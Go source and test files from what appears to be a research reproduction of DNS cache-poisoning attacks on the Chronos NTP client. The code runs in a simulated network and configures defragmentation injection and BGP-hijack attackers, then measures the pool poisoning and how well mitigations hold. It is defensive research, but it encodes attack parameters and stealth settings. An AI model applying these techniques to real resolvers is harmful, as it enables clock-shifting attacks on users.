		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	a.Host = attHost
	a.Forge = &attack.ResponseForge{PoolName: PoolName, Servers: cfg.Servers, TTL: ttl}
	switch cfg.Mechanism {
	case Defrag:
		attNSHost, err := net.AddHost(attackerNSIP)
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrScenario, err)
		}
		if _, err := attack.NewMaliciousNameserver(attNSHost, "ntp.org", a.Forge); err != nil {
			return nil, fmt.Errorf("%w: %v", ErrScenario, err)
		}
		a.Poisoner = attack.NewFragPoisoner(attHost, attack.FragPoisonerConfig{
			VictimResolver: cfg.VictimResolver,
			TargetServer:   simnet.Addr{IP: rootIP, Port: 53},
			GlueName:       "ns1.ntp.org",
			AttackerNS:     attackerNSIP,
			ForcedMTU:      68,
			ResolverEDNS:   4096,
		})
	case BGPHijack, BGPHijackPersistent:
		a.Hijacker = attack.NewBGPHijacker(net, a.Forge, simnet.IPv4(198, 51, 100, 0), 24)
		if cfg.Mechanism == BGPHijackPersistent {
			a.Hijacker.PerResponse = 4
			a.Forge.TTL = 150 * time.Second // policy-compliant stealth mode
		}
	default:
		return nil, fmt.Errorf("%w: unknown mechanism %v", ErrScenario, cfg.Mechanism)
	}
	return a, nil
}

// GluePoisoned reports whether res' cache currently maps the hierarchy's
// delegation glue (ns1.ntp.org) to the attacker nameserver — the
// success condition of the defragmentation chain, used by fleet
// instrumentation and the attacker's own verification probe.
func GluePoisoned(res *dnsresolver.Resolver) bool {
	rrs, ok := res.Cache().Get(res.Host().Net().Now(), "ns1.ntp.org", dnswire.TypeA)
	if !ok {
		return false
	}
	for _, rr := range rrs {
		if simnet.IP(rr.A) == attackerNSIP {
			return true
		}
	}
	return false
}
