package core

import (
	"reflect"
	"testing"
	"time"
)

// TestDeterminism verifies the whole-stack reproducibility contract: two
// scenario runs with the same seed produce byte-identical measurements,
// and a different seed produces a different (but still valid) run.
func TestDeterminism(t *testing.T) {
	run := func(seed int64) *Result {
		s, err := NewScenario(Config{
			Seed: seed, Mechanism: Defrag, PoisonQuery: 12,
			SyncDuration: 30 * time.Minute,
		})
		if err != nil {
			t.Fatal(err)
		}
		res, err := s.Run()
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	a := run(7)
	b := run(7)
	if !reflect.DeepEqual(a, b) {
		t.Errorf("same seed diverged:\n a=%+v\n b=%+v", a, b)
	}
	c := run(8)
	if reflect.DeepEqual(a.PerQuery, c.PerQuery) && a.ChronosOffset == c.ChronosOffset {
		t.Error("different seeds produced identical runs (suspicious)")
	}
	// Both seeds still satisfy the paper's invariant.
	for _, r := range []*Result{a, c} {
		if r.PoolMalicious != 89 || r.AttackerFraction < 2.0/3.0 {
			t.Errorf("invariant violated: %+v", r)
		}
	}
}

// TestLateAttackHasNoEffectOnEarlierQueries checks the causal structure of
// the per-query series: queries before the poisoning are untouched.
func TestLateAttackHasNoEffectOnEarlierQueries(t *testing.T) {
	attacked, err := NewScenario(Config{Seed: 9, Mechanism: Defrag, PoisonQuery: 20})
	if err != nil {
		t.Fatal(err)
	}
	ares, err := attacked.Run()
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range ares.PerQuery[:19] {
		if q.Malicious != 0 {
			t.Fatalf("query %d malicious before poisoning: %+v", q.Query, q)
		}
	}
	if ares.PerQuery[19].Malicious != 89 {
		t.Errorf("query 20 = %+v, want the 89-record injection", ares.PerQuery[19])
	}
}
