// Package core assembles the paper's contribution end to end: a simulated
// internet with a pool.ntp.org hierarchy, a shared caching resolver, a
// Chronos client running its 24-hour pool generation, a classic NTP client
// as baseline, and an off-path attacker poisoning the resolver at a chosen
// pool-generation query via defragmentation injection or a BGP prefix
// hijack.
//
// A Scenario run produces exactly the measurements the paper's Figure 1
// and §IV claims are made of: the pool's benign/malicious composition per
// query, the attacker's final pool fraction, and the time shift achieved
// against the Chronos and classic clients afterwards.
package core

import (
	"errors"
	"fmt"
	"time"

	"chronosntp/internal/attack"
	"chronosntp/internal/chronos"
	"chronosntp/internal/clock"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/ntpclient"
	"chronosntp/internal/simnet"
)

// Mechanism selects the cache-poisoning vector.
type Mechanism int

const (
	// NoAttack runs the honest baseline.
	NoAttack Mechanism = iota + 1
	// Defrag uses IPv4 defragmentation injection against the resolver
	// (off-path; forces fragmentation, predicts IPIDs, plants
	// checksum-compensated tails rewriting referral glue).
	Defrag
	// BGPHijack intercepts the nameserver prefix on-path for a poisoning
	// window around the target query.
	BGPHijack
	// BGPHijackPersistent keeps the hijack for the whole pool-generation
	// horizon and answers every query with policy-compliant 4-record
	// responses — the residual attack that defeats the §V mitigations.
	BGPHijackPersistent
)

// String implements fmt.Stringer.
func (m Mechanism) String() string {
	switch m {
	case NoAttack:
		return "none"
	case Defrag:
		return "defrag-injection"
	case BGPHijack:
		return "bgp-hijack"
	case BGPHijackPersistent:
		return "bgp-hijack-24h"
	default:
		return fmt.Sprintf("Mechanism(%d)", int(m))
	}
}

// Fixed topology addresses.
var (
	rootIP       = simnet.IPv4(198, 41, 0, 4)
	ntpOrgIP     = simnet.IPv4(198, 51, 100, 10)
	resolverBase = simnet.IPv4(10, 0, 0, 53)
	chronosIP    = simnet.IPv4(10, 0, 0, 1)
	plainIP      = simnet.IPv4(10, 0, 0, 2)
	attackerIP   = simnet.IPv4(66, 66, 0, 1)
	attackerNSIP = simnet.IPv4(66, 66, 0, 53)
	honestBase   = simnet.IPv4(203, 0, 0, 1)
	evilBase     = simnet.IPv4(66, 0, 0, 1)
)

// PoolName is the pool domain used throughout.
const PoolName = "pool.ntp.org"

// nsTTL is the delegation TTL: slightly under the hourly pool query
// spacing, so every hourly query re-walks the hierarchy — giving the
// attacker its "up to 24 tries".
const nsTTL = 3590

// Config parameterises a Scenario.
type Config struct {
	Seed int64

	BenignServers    int // pool.ntp.org inventory; default 500
	MaliciousServers int // attacker NTP servers; default 89

	Mechanism    Mechanism // default NoAttack
	PoisonQuery  int       // pool-generation query to poison (1-based); default 12
	ForgedTTL    time.Duration
	RampPerRound time.Duration // malicious shift growth per sync round; default 20ms

	PoolQueries       int           // default 24
	PoolQueryInterval time.Duration // default 1h
	SyncInterval      time.Duration // default 64s
	SyncDuration      time.Duration // post-build attack phase; default 0 (skip)

	ResolverPolicy dnsresolver.AcceptancePolicy // §V at the resolver
	ClientPolicy   chronos.PoolPolicy           // §V at the client
	Consensus      int                          // >1: pool generation via this many resolvers with majority voting
	RunPlainNTP    bool                         // also run the classic client baseline
}

func (c Config) withDefaults() Config {
	if c.Seed == 0 {
		c.Seed = 1
	}
	if c.BenignServers == 0 {
		c.BenignServers = 500
	}
	if c.MaliciousServers == 0 {
		c.MaliciousServers = 89
	}
	if c.Mechanism == 0 {
		c.Mechanism = NoAttack
	}
	if c.PoisonQuery == 0 {
		c.PoisonQuery = 12
	}
	if c.ForgedTTL == 0 {
		c.ForgedTTL = attack.DefaultForgedTTL
	}
	if c.RampPerRound == 0 {
		c.RampPerRound = 20 * time.Millisecond
	}
	if c.PoolQueries == 0 {
		c.PoolQueries = 24
	}
	if c.PoolQueryInterval == 0 {
		c.PoolQueryInterval = time.Hour
	}
	if c.SyncInterval == 0 {
		c.SyncInterval = 64 * time.Second
	}
	return c
}

// QuerySnapshot is the pool composition after one pool-generation query —
// one point of the Figure-1 series.
type QuerySnapshot struct {
	Query     int
	Benign    int
	Malicious int
}

// Fraction returns the attacker's share at this point.
func (q QuerySnapshot) Fraction() float64 {
	total := q.Benign + q.Malicious
	if total == 0 {
		return 0
	}
	return float64(q.Malicious) / float64(total)
}

// Result is a Scenario's measurement output.
type Result struct {
	Mechanism   Mechanism
	PoisonQuery int

	PoolSize         int
	PoolBenign       int
	PoolMalicious    int
	AttackerFraction float64
	PerQuery         []QuerySnapshot // the Figure-1 series

	PoisonPlanted bool // attack chain completed (mechanism-dependent)

	ChronosOffset    time.Duration // |client − true| at the end
	ChronosMaxOffset time.Duration // peak error during the sync phase
	PlainOffset      time.Duration // classic client error (if RunPlainNTP)

	ChronosStats  chronos.Stats
	ResolverStats dnsresolver.Stats
}

// Scenario is a fully wired experiment.
type Scenario struct {
	cfg Config
	net *simnet.Network

	backbone *Backbone

	resolvers []*dnsresolver.Resolver
	chronosC  *chronos.Client
	plainC    *ntpclient.Client

	poisoner *attack.FragPoisoner
	hijacker *attack.BGPHijacker

	poisonPlanted bool
	plantErr      error
}

// ErrScenario wraps construction failures.
var ErrScenario = errors.New("core: scenario setup")

// NewScenario wires the topology. Run executes it.
func NewScenario(cfg Config) (*Scenario, error) {
	cfg = cfg.withDefaults()
	s := &Scenario{cfg: cfg}
	s.net = simnet.New(simnet.Config{Seed: cfg.Seed})

	var err error
	s.backbone, err = BuildBackbone(s.net, BackboneConfig{
		BenignServers:    cfg.BenignServers,
		MaliciousServers: cfg.MaliciousServers,
		RampPerRound:     cfg.RampPerRound,
		SyncInterval:     cfg.SyncInterval,
	})
	if err != nil {
		return nil, err
	}

	// Resolvers: one by default, several for the consensus defence.
	resolverCount := 1
	if cfg.Consensus > 1 {
		resolverCount = cfg.Consensus
	}
	for i := 0; i < resolverCount; i++ {
		ip := resolverBase
		ip[3] += byte(i)
		res, err := s.backbone.NewResolver(ip, cfg.ResolverPolicy)
		if err != nil {
			return nil, err
		}
		s.resolvers = append(s.resolvers, res)
	}

	// Chronos client: stub against the first resolver, or a consensus
	// stub across all of them.
	chHost, err := s.net.AddHost(chronosIP)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrScenario, err)
	}
	var lookuper chronos.Lookuper
	if cfg.Consensus > 1 {
		stubs := make([]*dnsresolver.Stub, len(s.resolvers))
		for i, r := range s.resolvers {
			stubs[i] = dnsresolver.NewStub(chHost, r.Addr(), 0)
		}
		lookuper = mitigation.NewConsensusStub(stubs, 0)
	} else {
		lookuper = dnsresolver.NewStub(chHost, s.resolvers[0].Addr(), 0)
	}
	s.chronosC = chronos.New(chHost, &clock.Clock{}, lookuper, chronos.Config{
		PoolName:          PoolName,
		PoolQueries:       cfg.PoolQueries,
		PoolQueryInterval: cfg.PoolQueryInterval,
		SyncInterval:      cfg.SyncInterval,
		Policy:            cfg.ClientPolicy,
	})

	// Classic NTP client baseline.
	if cfg.RunPlainNTP {
		plHost, err := s.net.AddHost(plainIP)
		if err != nil {
			return nil, fmt.Errorf("%w: %v", ErrScenario, err)
		}
		stub := dnsresolver.NewStub(plHost, s.resolvers[0].Addr(), 0)
		s.plainC = ntpclient.New(plHost, &clock.Clock{}, stub, ntpclient.Config{
			PoolName:     PoolName,
			PollInterval: cfg.SyncInterval,
		})
	}

	// Attacker infrastructure.
	att, err := InstallAttacker(s.net, AttackerConfig{
		Mechanism:      cfg.Mechanism,
		Servers:        s.backbone.EvilIPs,
		ForgedTTL:      cfg.ForgedTTL,
		VictimResolver: s.resolvers[0].Addr().IP,
	})
	if err != nil {
		return nil, err
	}
	s.poisoner, s.hijacker = att.Poisoner, att.Hijacker
	return s, nil
}

// Net exposes the underlying network (for extended instrumentation).
func (s *Scenario) Net() *simnet.Network { return s.net }

// Chronos exposes the Chronos client under test.
func (s *Scenario) Chronos() *chronos.Client { return s.chronosC }

// Run executes pool generation (with the configured attack), then the
// synchronisation/attack phase, and returns the measurements.
func (s *Scenario) Run() (*Result, error) {
	cfg := s.cfg
	buildStart := s.net.Now().Add(time.Minute)

	// Schedule the poisoning attempt relative to the target query. Pool
	// query q fires at buildStart + (q−1)·interval; the attack lands just
	// before it (inside the resolver's 30 s reassembly window for the
	// defrag mechanism).
	if cfg.Mechanism != NoAttack {
		attackAt := buildStart.Add(time.Duration(cfg.PoisonQuery-1)*cfg.PoolQueryInterval - 20*time.Second)
		lead := attackAt.Sub(s.net.Now())
		if lead < 0 {
			lead = 0
		}
		switch cfg.Mechanism {
		case Defrag:
			s.net.After(lead, func() {
				s.poisoner.Execute(PoolName, dnswire.TypeA, func(err error) {
					s.plantErr = err
					s.poisonPlanted = err == nil
				})
			})
		case BGPHijack:
			// Announce around the window of the target query, withdraw
			// after it.
			s.net.After(lead, func() {
				s.hijacker.Announce()
				s.poisonPlanted = true
			})
			s.net.After(lead+40*time.Second+cfg.PoolQueryInterval/2, func() { s.hijacker.Withdraw() })
		case BGPHijackPersistent:
			s.net.After(lead, func() {
				s.hijacker.Announce()
				s.poisonPlanted = true
			})
		}
	}

	// Pool generation.
	var buildErr error
	built := false
	s.net.After(time.Minute, func() {
		s.chronosC.BuildPool(func(err error) { buildErr, built = err, true })
	})
	buildSpan := time.Duration(cfg.PoolQueries)*cfg.PoolQueryInterval + 2*time.Minute
	s.net.Run(buildStart.Add(buildSpan))
	if !built {
		return nil, fmt.Errorf("%w: pool generation did not complete", ErrScenario)
	}
	if buildErr != nil && !errors.Is(buildErr, chronos.ErrPoolEmpty) {
		return nil, fmt.Errorf("%w: build: %v", ErrScenario, buildErr)
	}

	res := &Result{
		Mechanism:   cfg.Mechanism,
		PoisonQuery: cfg.PoisonQuery,
	}
	if cfg.Mechanism == NoAttack {
		res.PoisonQuery = 0
	}
	res.PoisonPlanted = s.poisonPlanted

	// Pool composition and the per-query Figure-1 series.
	entries := s.chronosC.Pool()
	res.PoolSize = len(entries)
	perQuery := make([]QuerySnapshot, cfg.PoolQueries)
	for i := range perQuery {
		perQuery[i].Query = i + 1
	}
	for _, e := range entries {
		evil := s.backbone.IsMalicious(e.IP)
		if evil {
			res.PoolMalicious++
		} else {
			res.PoolBenign++
		}
		for q := e.QueryIdx; q <= cfg.PoolQueries; q++ {
			if evil {
				perQuery[q-1].Malicious++
			} else {
				perQuery[q-1].Benign++
			}
		}
	}
	if res.PoolSize > 0 {
		res.AttackerFraction = float64(res.PoolMalicious) / float64(res.PoolSize)
	}
	res.PerQuery = perQuery

	// Synchronisation phase: malicious servers begin their ramp; the
	// classic client bootstraps now (its single DNS resolution served
	// from whatever the shared cache holds).
	if cfg.SyncDuration > 0 && res.PoolSize > 0 {
		s.backbone.StartRamp()
		if s.plainC != nil {
			s.plainC.Start(nil)
		}
		// Track the peak Chronos error. Scenario clients are zero-drift,
		// so the offset only changes when an event runs: steps that
		// FastForward across idle air (between NTP polls, most of them)
		// skip the resample, compressing the sync loop to O(events)
		// instead of O(steps).
		step := cfg.SyncInterval
		var maxOff time.Duration
		for elapsed := time.Duration(0); elapsed < cfg.SyncDuration; elapsed += step {
			if s.net.FastForward(step) == 0 {
				continue
			}
			if off := absDur(s.chronosC.Offset()); off > maxOff {
				maxOff = off
			}
		}
		res.ChronosMaxOffset = maxOff
	}
	res.ChronosOffset = absDur(s.chronosC.Offset())
	if s.plainC != nil {
		res.PlainOffset = absDur(s.plainC.Offset())
	}
	res.ChronosStats = s.chronosC.Stats()
	res.ResolverStats = s.resolvers[0].Stats()
	return res, nil
}

func absDur(d time.Duration) time.Duration {
	if d < 0 {
		return -d
	}
	return d
}
