package core

import (
	"testing"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/mitigation"
)

func TestHonestBaseline(t *testing.T) {
	s, err := NewScenario(Config{Seed: 201, BenignServers: 300})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolMalicious != 0 {
		t.Errorf("malicious = %d, want 0", res.PoolMalicious)
	}
	if res.PoolBenign < 80 || res.PoolBenign > 96 {
		t.Errorf("benign = %d, want ~96", res.PoolBenign)
	}
	if res.AttackerFraction != 0 {
		t.Errorf("fraction = %v", res.AttackerFraction)
	}
	// The per-query series climbs by ~4 per query.
	if res.PerQuery[0].Benign != 4 {
		t.Errorf("first query contributed %d, want 4", res.PerQuery[0].Benign)
	}
	last := res.PerQuery[len(res.PerQuery)-1]
	if last.Benign != res.PoolBenign {
		t.Errorf("series end %d != pool %d", last.Benign, res.PoolBenign)
	}
}

func TestFigure1DefragAtQuery12(t *testing.T) {
	s, err := NewScenario(Config{Seed: 202, Mechanism: Defrag, PoisonQuery: 12})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if !res.PoisonPlanted {
		t.Fatal("poisoning chain did not complete")
	}
	if res.PoolMalicious != 89 {
		t.Errorf("malicious = %d, want 89", res.PoolMalicious)
	}
	// The paper: "up to 4·11 = 44 benign" — the rotation may legitimately
	// repeat a server across windows, so allow small shortfalls.
	if res.PoolBenign > 44 || res.PoolBenign < 40 {
		t.Errorf("benign = %d, want up to 4·11 = 44 (paper, Figure 1)", res.PoolBenign)
	}
	if res.AttackerFraction < 2.0/3.0 {
		t.Errorf("fraction = %v, want >= 2/3", res.AttackerFraction)
	}
	// Series shape: benign grows to ≤44 by query 11, malicious jumps to
	// 89 at query 12 and the pool freezes (TTL pinning).
	q11 := res.PerQuery[10]
	if q11.Malicious != 0 || q11.Benign != res.PoolBenign {
		t.Errorf("q11 = %+v", q11)
	}
	q12 := res.PerQuery[11]
	if q12.Malicious != 89 {
		t.Errorf("q12 malicious = %d, want 89", q12.Malicious)
	}
	q24 := res.PerQuery[23]
	if q24.Benign != res.PoolBenign || q24.Malicious != 89 {
		t.Errorf("q24 = %+v, want pool frozen", q24)
	}
}

func TestDefragAtQuery13MissesTwoThirds(t *testing.T) {
	s, err := NewScenario(Config{Seed: 203, Mechanism: Defrag, PoisonQuery: 13})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolMalicious != 89 || res.PoolBenign > 48 || res.PoolBenign < 44 {
		t.Errorf("composition %d/%d, want 89/~48", res.PoolMalicious, res.PoolBenign)
	}
}

func TestBGPHijackMechanism(t *testing.T) {
	s, err := NewScenario(Config{Seed: 204, Mechanism: BGPHijack, PoisonQuery: 6})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolMalicious != 89 {
		t.Errorf("malicious = %d, want 89", res.PoolMalicious)
	}
	if res.PoolBenign != 20 {
		t.Errorf("benign = %d, want 4·5 = 20", res.PoolBenign)
	}
}

func TestTimeShiftPhase(t *testing.T) {
	// Short sync phase on a poisoned pool: Chronos' clock must leave the
	// honest envelope; with the honest pool it must not.
	s, err := NewScenario(Config{
		Seed: 205, Mechanism: Defrag, PoisonQuery: 12,
		SyncDuration: time.Hour, RunPlainNTP: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.ChronosOffset < 100*time.Millisecond {
		t.Errorf("poisoned Chronos offset = %v, want > 100ms", res.ChronosOffset)
	}
	if res.PlainOffset < 100*time.Millisecond {
		t.Errorf("poisoned plain-NTP offset = %v, want > 100ms", res.PlainOffset)
	}

	honest, err := NewScenario(Config{Seed: 206, SyncDuration: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	hres, err := honest.Run()
	if err != nil {
		t.Fatal(err)
	}
	if hres.ChronosOffset > 20*time.Millisecond {
		t.Errorf("honest Chronos offset = %v, want ~0", hres.ChronosOffset)
	}
}

func TestMitigationsBlockDefrag(t *testing.T) {
	// §V at the resolver: the poisoned referral carries a ~7-day glue TTL
	// and the attacker nameserver answers with 89 records — both vetoed.
	s, err := NewScenario(Config{
		Seed: 207, Mechanism: Defrag, PoisonQuery: 12,
		ResolverPolicy: paperResolverPolicy(),
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolMalicious != 0 {
		t.Errorf("malicious = %d, want 0 with §V resolver policy", res.PoolMalicious)
	}
	if res.ResolverStats.PolicyRejects == 0 {
		t.Error("no policy rejects recorded")
	}
}

func TestPersistentHijackDefeatsMitigations(t *testing.T) {
	// The paper's conclusion: even with §V in place, an attacker
	// hijacking the DNS path for the whole 24 h wins — its responses are
	// policy-compliant (4 records, 150 s TTL) yet every address is
	// malicious.
	s, err := NewScenario(Config{
		Seed: 208, Mechanism: BGPHijackPersistent, PoisonQuery: 1,
		MaliciousServers: 120,
		ResolverPolicy:   paperResolverPolicy(),
		ClientPolicy:     paperClientPolicy(),
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolBenign != 0 {
		t.Errorf("benign = %d, want 0 under a 24h hijack", res.PoolBenign)
	}
	if res.PoolMalicious < 80 {
		t.Errorf("malicious = %d, want ~96", res.PoolMalicious)
	}
	if res.AttackerFraction != 1 {
		t.Errorf("fraction = %v, want 1.0", res.AttackerFraction)
	}
}

func TestConsensusDefendsPoolGeneration(t *testing.T) {
	// Multi-resolver consensus: the defrag attack poisons only the first
	// resolver; the majority keeps the pool honest.
	s, err := NewScenario(Config{
		Seed: 209, Mechanism: Defrag, PoisonQuery: 3,
		Consensus: 3,
	})
	if err != nil {
		t.Fatal(err)
	}
	res, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}
	if res.PoolMalicious != 0 {
		t.Errorf("malicious = %d, want 0 with consensus pool generation", res.PoolMalicious)
	}
	if res.PoolBenign == 0 {
		t.Error("consensus produced an empty pool")
	}
}

func TestMechanismString(t *testing.T) {
	for _, m := range []Mechanism{NoAttack, Defrag, BGPHijack, BGPHijackPersistent, Mechanism(42)} {
		if m.String() == "" {
			t.Error("empty mechanism string")
		}
	}
}

func paperResolverPolicy() dnsresolver.AcceptancePolicy { return mitigation.PaperResolverPolicy() }
func paperClientPolicy() chronos.PoolPolicy             { return mitigation.PaperClientPolicy() }
