package stats

import (
	"math"
	"math/rand"
	"sync"
	"testing"
)

func TestDescribe(t *testing.T) {
	if _, err := Describe(nil); err != ErrEmptyInput {
		t.Fatalf("empty input: err = %v", err)
	}

	one, err := Describe([]float64{2.5})
	if err != nil {
		t.Fatal(err)
	}
	if one.N != 1 || one.Mean != 2.5 || one.StdDev != 0 || one.CI95 != 0 || one.Min != 2.5 || one.Max != 2.5 {
		t.Errorf("single sample: %+v", one)
	}
	if got := one.String(); got != "2.500" {
		t.Errorf("single-sample String = %q", got)
	}

	s, err := Describe([]float64{2, 4, 4, 4, 5, 5, 7, 9})
	if err != nil {
		t.Fatal(err)
	}
	if s.N != 8 || s.Mean != 5 || s.Min != 2 || s.Max != 9 {
		t.Errorf("summary = %+v", s)
	}
	// Sample stddev of this classic set is sqrt(32/7).
	if want := math.Sqrt(32.0 / 7.0); math.Abs(s.StdDev-want) > 1e-12 {
		t.Errorf("stddev = %v, want %v", s.StdDev, want)
	}
	if want := z95 * s.StdDev / math.Sqrt(8); math.Abs(s.CI95-want) > 1e-12 {
		t.Errorf("ci95 = %v, want %v", s.CI95, want)
	}
}

// TestAggregatorOrderIndependence is the contract the parallel runner
// relies on: any arrival order of the same (index, value) observations
// reduces to bit-identical summaries.
func TestAggregatorOrderIndependence(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	n := 100
	vals := make([]float64, n)
	for i := range vals {
		vals[i] = rng.NormFloat64()
	}

	sequential := NewAggregator()
	for i, v := range vals {
		sequential.Observe("x", i, v)
	}
	want, err := sequential.Describe("x")
	if err != nil {
		t.Fatal(err)
	}

	// Shuffled arrival order.
	shuffled := NewAggregator()
	for _, i := range rng.Perm(n) {
		shuffled.Observe("x", i, vals[i])
	}
	got, err := shuffled.Describe("x")
	if err != nil {
		t.Fatal(err)
	}
	if got != want {
		t.Errorf("shuffled aggregate %+v != sequential %+v", got, want)
	}

	// Concurrent arrival.
	concurrent := NewAggregator()
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			concurrent.Observe("x", i, vals[i])
		}(i)
	}
	wg.Wait()
	got, err = concurrent.Describe("x")
	if err != nil {
		t.Fatal(err)
	}
	if got != want {
		t.Errorf("concurrent aggregate %+v != sequential %+v", got, want)
	}
}

func TestAggregatorMetrics(t *testing.T) {
	a := NewAggregator()
	a.Observe("b", 0, 1)
	a.Observe("a", 0, 2)
	got := a.Metrics()
	if len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Errorf("metrics = %v", got)
	}
	if vs := a.Values("missing"); vs != nil {
		t.Errorf("missing metric values = %v", vs)
	}
	if _, err := a.Describe("missing"); err != ErrEmptyInput {
		t.Errorf("missing metric err = %v", err)
	}
}
