package stats

import (
	"fmt"
	"math"
	"math/rand"
	"testing"
)

// obs is one randomly generated observation for the property tests.
type obs struct {
	metric string
	idx    int
	v      float64
}

// randomObservations draws a trial-result set with unique (metric, idx)
// pairs — the runner's invariant — and a mix of magnitudes so that
// floating-point summation order would visibly matter if the reduction
// were not canonicalised.
func randomObservations(rng *rand.Rand) []obs {
	metrics := 1 + rng.Intn(4)
	trials := 1 + rng.Intn(40)
	var out []obs
	for m := 0; m < metrics; m++ {
		name := fmt.Sprintf("metric-%d", m)
		for idx := 0; idx < trials; idx++ {
			if rng.Intn(8) == 0 {
				continue // sparse metrics: not every trial observes everything
			}
			v := (rng.Float64() - 0.5) * math.Pow(10, float64(rng.Intn(13)-6))
			out = append(out, obs{metric: name, idx: idx, v: v})
		}
	}
	return out
}

func feed(a *Aggregator, observations []obs) {
	for _, o := range observations {
		a.Observe(o.metric, o.idx, o.v)
	}
}

// assertIdentical compares every metric of two aggregators bit for bit
// (Values ordering and the full Summary reduction).
func assertIdentical(t *testing.T, want, got *Aggregator, label string) {
	t.Helper()
	wm, gm := want.Metrics(), got.Metrics()
	if len(wm) != len(gm) {
		t.Fatalf("%s: metric sets differ: %v vs %v", label, wm, gm)
	}
	for i, m := range wm {
		if gm[i] != m {
			t.Fatalf("%s: metric sets differ: %v vs %v", label, wm, gm)
		}
		wv, gv := want.Values(m), got.Values(m)
		if len(wv) != len(gv) {
			t.Fatalf("%s: %s: %d vs %d values", label, m, len(wv), len(gv))
		}
		for j := range wv {
			if math.Float64bits(wv[j]) != math.Float64bits(gv[j]) {
				t.Fatalf("%s: %s[%d]: %v vs %v (not bit-identical)", label, m, j, wv[j], gv[j])
			}
		}
		ws, werr := want.Describe(m)
		gs, gerr := got.Describe(m)
		if (werr == nil) != (gerr == nil) || ws != gs {
			t.Fatalf("%s: %s summaries differ: %+v vs %+v", label, m, ws, gs)
		}
	}
}

// TestAggregatorOrderIndependenceProperty is the quick-check: for many
// random trial-result sets, feeding any permutation of the observations
// produces a bit-identical aggregate.
func TestAggregatorOrderIndependenceProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(20260729))
	for iter := 0; iter < 60; iter++ {
		observations := randomObservations(rng)
		canonical := NewAggregator()
		feed(canonical, observations)
		for p := 0; p < 4; p++ {
			perm := append([]obs(nil), observations...)
			rng.Shuffle(len(perm), func(i, j int) { perm[i], perm[j] = perm[j], perm[i] })
			shuffled := NewAggregator()
			feed(shuffled, perm)
			assertIdentical(t, canonical, shuffled,
				fmt.Sprintf("iter %d perm %d", iter, p))
		}
	}
}

// TestAggregatorMergeCommutativeAssociativeProperty checks the merge
// laws: splitting a trial-result set into random parts and merging them
// in any grouping or order equals observing everything into one
// aggregator.
func TestAggregatorMergeCommutativeAssociativeProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for iter := 0; iter < 40; iter++ {
		observations := randomObservations(rng)
		canonical := NewAggregator()
		feed(canonical, observations)

		// Random 3-way split (parts may be empty).
		parts := [3][]obs{}
		for _, o := range observations {
			k := rng.Intn(3)
			parts[k] = append(parts[k], o)
		}
		aggs := [3]*Aggregator{NewAggregator(), NewAggregator(), NewAggregator()}
		for k := range parts {
			feed(aggs[k], parts[k])
		}

		// (A∪B)∪C
		left := NewAggregator()
		left.Merge(aggs[0])
		left.Merge(aggs[1])
		left.Merge(aggs[2])
		assertIdentical(t, canonical, left, fmt.Sprintf("iter %d (A∪B)∪C", iter))

		// C∪(B∪A) — commuted and re-associated.
		inner := NewAggregator()
		inner.Merge(aggs[1])
		inner.Merge(aggs[0])
		right := NewAggregator()
		right.Merge(aggs[2])
		right.Merge(inner)
		assertIdentical(t, canonical, right, fmt.Sprintf("iter %d C∪(B∪A)", iter))
	}
}

func TestAggregatorMergeSelfAndNil(t *testing.T) {
	a := NewAggregator()
	a.Observe("m", 0, 1)
	a.Merge(nil)
	a.Merge(a)
	if vs := a.Values("m"); len(vs) != 1 || vs[0] != 1 {
		t.Fatalf("self/nil merge corrupted state: %v", vs)
	}
}
