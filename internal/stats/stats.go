// Package stats provides the numerical primitives used by the Chronos-NTP
// reproduction: combinatorial tail probabilities (binomial, hypergeometric)
// evaluated in log space for stability, robust location estimators (trimmed
// mean, median), simple descriptive statistics, and deterministic RNG
// helpers.
//
// All probability routines are exact (no sampling); Monte-Carlo cross-checks
// live in the callers.
package stats

import (
	"errors"
	"math"
	"sort"
)

// ErrEmptyInput is returned by estimators that require at least one sample.
var ErrEmptyInput = errors.New("stats: empty input")

// LogChoose returns ln C(n, k). It returns -Inf for k < 0 or k > n so that
// out-of-range terms vanish when exponentiated.
func LogChoose(n, k int) float64 {
	if k < 0 || k > n {
		return math.Inf(-1)
	}
	if k == 0 || k == n {
		return 0
	}
	lg, _ := math.Lgamma(float64(n + 1))
	lk, _ := math.Lgamma(float64(k + 1))
	lnk, _ := math.Lgamma(float64(n - k + 1))
	return lg - lk - lnk
}

// BinomPMF returns P[X = k] for X ~ Binomial(n, p).
func BinomPMF(n int, p float64, k int) float64 {
	if k < 0 || k > n {
		return 0
	}
	if p <= 0 {
		if k == 0 {
			return 1
		}
		return 0
	}
	if p >= 1 {
		if k == n {
			return 1
		}
		return 0
	}
	lp := LogChoose(n, k) + float64(k)*math.Log(p) + float64(n-k)*math.Log1p(-p)
	return math.Exp(lp)
}

